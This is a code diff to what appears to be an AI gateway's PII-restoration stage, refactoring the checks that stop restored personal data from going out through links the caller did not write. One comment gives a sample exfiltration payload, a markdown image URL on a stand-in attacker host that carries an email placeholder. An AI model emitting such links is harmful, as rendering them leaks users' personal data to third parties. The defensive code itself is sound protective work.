@@ -25,7 +25,7 @@ import type { CallContext, GatewayRequest } from '../context.ts';
 import { findCredentials } from '../output/credentials.ts';
 import { causeName } from '../errors.ts';
 import { verdict, type Stage, type StageVerdict, type VerdictDetail } from '../stage.ts';
-import { continuesLink, holdsUrl, joinsIntoUrl, LINK_WORD } from './pii-restore-url.ts';
+import { continuesLink, holdsUrl, joinsIntoUrl, LINK_WORD, wordInLink } from './pii-restore-url.ts';
 
 function tokenCount(text: string): number {
   let n = 0;
@@ -143,6 +143,13 @@ function callerWords(text: string): Set<string> {
   return words;
 }
 
+/** Whether `restored` (a string or word, its values restored) is a whole URL the caller wrote, not a bare scheme to build one with. */
+function callerWroteLink(restored: string, caller: () => Set<string>): boolean {
+  const written = restored.trim();
+  const unwrapped = written.replace(URL_WRAPPING, '');
+  return !SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped));
+}
+
 /** Every string of a JSON value, keys and values, in the order restoreArguments walks them. */
 function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [], depth = 0): { text: string; asKey: boolean }[] {
   if (depth > 256) throw new RangeError('PII restore: JSON value nested deeper than 256 levels; refusing it.');
@@ -169,15 +176,12 @@ function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [
 function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => Set<string>): boolean {
   const pieces: string[] = [];
   for (const { text } of stringsOf(value)) {
-    const restored = restoreExcept(text, restorableTokens(text, restorer), new Set(), restorer).text;
+    const restored = restorer.restore(text);
     if (!holdsUrl(text) && !holdsUrl(restored)) {
       pieces.push(text);
       continue;
     }
-    const written = restored.trim();
-    const unwrapped = written.replace(URL_WRAPPING, '');
-    const wholeCallerUrl = !SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped));
-    if (!wholeCallerUrl) return true;
+    if (!callerWroteLink(restored, caller)) return true;
     pieces.push(' ');
   }
   return joinsIntoUrl(pieces);
@@ -266,7 +270,6 @@ async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Re
   return out;
 }
 
-/** Restores free text (the answer, or a string of structured output), keeping credential-completing tokens. */
 /**
  * The text answer restored, except tokens inside a word that points somewhere the caller did not
  * write (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown loads it, and the
@@ -286,12 +289,10 @@ function restoreText(text: string, restorer: Restorer, caller: () => Set<string>
       const end = start + word[0].length;
       const inWord = tokens.filter((t) => t.start >= start && t.end <= end);
       if (inWord.length === 0) continue;
-      const restored = restoreExcept(word[0], inWord.map((t) => ({ ...t, start: t.start - start, end: t.end - start })), new Set(), restorer).text;
-      // A link written across white space (`?d= [EMAIL_1]`, a newline in an attribute) is one link.
-      const openBefore = continuesLink(before);
-      if (!openBefore && !holdsUrl(word[0]) && !holdsUrl(restored)) continue;
-      const unwrapped = restored.replace(URL_WRAPPING, '');
-      if (!openBefore && (caller().has(restored) || caller().has(unwrapped))) continue;
+      const restored = restorer.restore(word[0]);
+      if (!wordInLink(word[0], restored, before)) continue;
+      // A link written across white space (`?d= [EMAIL_1]`) is not one the caller's word vouches for.
+      if (!continuesLink(before) && callerWroteLink(restored, caller)) continue;
       for (const t of inWord) {
         keep.add(t);
         urlKept.add(t.token);
